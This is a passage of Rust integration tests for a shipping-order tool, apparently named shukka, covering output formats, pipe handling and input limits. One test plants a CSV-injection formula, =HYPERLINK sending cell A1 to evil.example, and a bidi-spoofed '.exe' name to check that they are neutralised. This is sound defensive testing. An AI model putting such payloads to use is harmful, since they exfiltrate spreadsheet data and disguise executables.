    let srv = start_with(dir.path(), ServeOptions::default()).await;
    let c = shukka::server::client::RemoteClient::connect(
        &server::socket_path(dir.path()),
        false,
        false,
    )
    .await
    .expect("connect");
    let b = Backend::Remote(c);
    let mut auth = srv.engine.store().auth(1).expect("auth").expect("exists");
    auth.endpoint = other.base_url();
    let before = other.with_state(|s| {
        s.requests()
            .iter()
            .filter(|r| r.uri.starts_with("/oauth/token"))
            .count()
    });
    // Both sent at once; the test must come after the save.
    let (saved, tested) = tokio::join!(
        b.call(Request::SaveAuth {
            auth,
            secret: Some("demo-secret".into())
        }),
        async {
            tokio::task::yield_now().await;
            b.call(Request::TestConnection { auth_id: 1 }).await
        }
    );
    saved.expect("saved");
    let tested = tested.expect("tested");
    let shukka::service::Reply::ConnectionTest(tested) = tested else {
        panic!("not a connection test: {tested:?}");
    };
    assert!(tested.ok, "{tested:?}");
    assert!(
        other.with_state(|s| s
            .requests()
            .iter()
            .filter(|r| r.uri.starts_with("/oauth/token"))
            .count())
            > before,
        "the new endpoint was the one tested"
    );
    srv.shutdown().await;
}

// ---------------------------------------------------------------------------------------------
// 6, 9–13. Output, order, limits, pipes, the refusal's advice

#[tokio::test]
async fn csv_cells_are_never_formulas_and_json_escapes_invisible_controls() {
    let sim = start_sim(0, 100).await;
    let hostile = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"請求書\")";
    let bidi = "山田\u{85}\u{202e}txt.exe\u{2066}";
    for name in [hostile, bidi] {
        sim.with_state(|s| {
            s.create_order(shukka::sim::NewOrder {
                payment_type: Some("COD".into()),
                last_name: Some(name.into()),
                first_name: Some("".into()),
                ..Default::default()
            })
        })
        .expect("order");
    }
    let (engine, dir) = engine_with_setup(&sim).await;
    run(&engine, range_robot(&engine)).await;
    drop(engine);
    tokio::time::sleep(Duration::from_millis(50)).await;
    let bin = env!("CARGO_BIN_EXE_shukka");
    let out = |args: &[&str]| {
        std::process::Command::new(bin)
            .arg("--data-dir")
            .arg(dir.path())
            .args(args)
            .output()
            .expect("runs")
    };
    let csv = out(&["orders", "--format", "csv"]);
    assert!(
        csv.status.success(),
        "{}",
        String::from_utf8_lossy(&csv.stderr)
    );
    let text = String::from_utf8_lossy(&csv.stdout).into_owned();
    let mut r = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let cells: Vec<String> = r
        .records()
        .flat_map(|rec| {
            rec.expect("row")
                .iter()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect();
    assert!(cells.iter().any(|c| c.starts_with("'=HYPERLINK")), "{text}");
    assert!(
        cells
            .iter()
            .all(|c| !shukka::output::csv::is_formula_like(c)),
        "{text}"
    );
    let raw = out(&["orders", "--format", "csv", "--raw-csv"]);
    assert!(
        String::from_utf8_lossy(&raw.stdout).contains(",\"=HYPERLINK"),
        "raw on request"
    );
    let json = out(&["orders", "--format", "json"]);
    let text = String::from_utf8_lossy(&json.stdout).into_owned();
    for c in ['\u{85}', '\u{202e}', '\u{2066}'] {
        assert!(!text.contains(c), "{c:?} raw in the JSON");
    }
    assert!(text.contains("\\u0085") && text.contains("\\u202e") && text.contains("\\u2066"));
    let rows: Vec<InstructionSummary> = serde_json::from_str(&text).expect("still valid JSON");
    assert!(
        rows.iter().any(|r| r.recipient.contains('\u{202e}')),
        "the value is unchanged"
    );
}

#[tokio::test]
async fn a_closed_stdout_ends_a_command_quietly() {
    use std::io::Read;
    use std::os::unix::process::ExitStatusExt;
    let sim = start_sim(120, 100).await;
    let (engine, dir) = engine_with_setup(&sim).await;
    run(&engine, range_robot(&engine)).await;
    drop(engine);
    tokio::time::sleep(Duration::from_millis(50)).await;
    for args in [
        &["log", "--audit", "--limit", "500"][..],
        &["orders"][..],
        &["orders", "--format", "json"][..],
    ] {
        let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_shukka"))
            .arg("--data-dir")
            .arg(dir.path())
            .args(args)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("runs");
        // `| head -c 10`: read a little, then close.
        let mut first = [0u8; 10];
        child
            .stdout
            .take()
            .expect("stdout")
            .read_exact(&mut first)
            .expect("some output");
        let out = child.wait_with_output().expect("wait");
        let quiet = out.status.success()
            || out.status.signal() == Some(13)
            || out.status.code() == Some(141);
        assert!(quiet, "{args:?}: {:?}", out.status);
        assert!(
            out.stderr.is_empty(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

#[tokio::test]
async fn rule_order_lists_every_robot_once_and_long_text_is_refused() {
    let sim = start_sim(5, 100).await;
    let (engine, _dir) = engine_with_setup(&sim).await;
    run(&engine, range_robot(&engine)).await;
    let op = operator();
    let before = engine.store().processing_robots().expect("robots");
    for bad in [
        &[3u64, 3][..],
        &[][..],
        &[1, 2, 3][..],
        &[1, 2, 3, 4, 5, 6, 6][..],
    ] {
        let e = engine.set_rule_order(bad, &op).expect_err("refused");
        assert!(
            matches!(e, shukka::engine::EngineError::Refused(_)),
            "{bad:?}: {e}"
        );
    }
    assert_eq!(
        engine.store().processing_robots().expect("robots"),
        before,
        "unchanged"
    );
    engine
        .set_rule_order(&[7, 6, 5, 4, 3, 2, 1], &op)
        .expect("a full order");
    let ids: Vec<u64> = engine
        .store()
        .processing_robots()
        .expect("r")
        .iter()
        .map(|r| r.id)
        .collect();
    assert_eq!(ids, vec![7, 6, 5, 4, 3, 2, 1], "stored exactly as given");

    let ready = engine
        .store()
        .summaries(Some(Status::Ready))
        .expect("ready")[0]
        .clone();
    let long = "長".repeat(400); // 1,200 bytes
    let e = engine
        .hold(ready.id, None, &long, &op)
        .expect_err("too long");
    assert!(e.to_string().contains("1024 バイトまで"), "{e}");
    assert_eq!(
        e.message_en(),
        Some("The hold reason is too long (1200 bytes): at most 1024 bytes")
    );
    engine
        .hold(ready.id, None, &"長".repeat(300), &op)
        .expect("900 bytes are fine");
    let e = engine.rename_linkage(1, &"x".repeat(2000), &op);
    assert!(e.is_err());
}

#[tokio::test]
async fn the_protocol_refusal_names_the_servers_pid() {
    let dir = tempfile::tempdir().expect("tmp");
    let srv = server::start(dir.path(), ServeOptions::default())
        .await
        .expect("serve");
    let stream = tokio::net::UnixStream::connect(server::socket_path(dir.path()))
        .await
        .expect("connect");
    let (r, mut w) = stream.into_split();
    let mut lines = BufReader::new(r).lines();
    w.write_all(b"{\"t\":\"hello\",\"protocol\":1,\"version\":\"0.0.9\"}\n")
        .await
        .expect("write");
    let line = lines.next_line().await.expect("read").expect("line");
    let pid = std::process::id();
    assert!(line.contains(&format!("kill {pid}")), "{line}");
    assert!(!line.contains("pidof"), "{line}");
    srv.shutdown().await;
    let _ = ErrorKind::Forbidden;
}
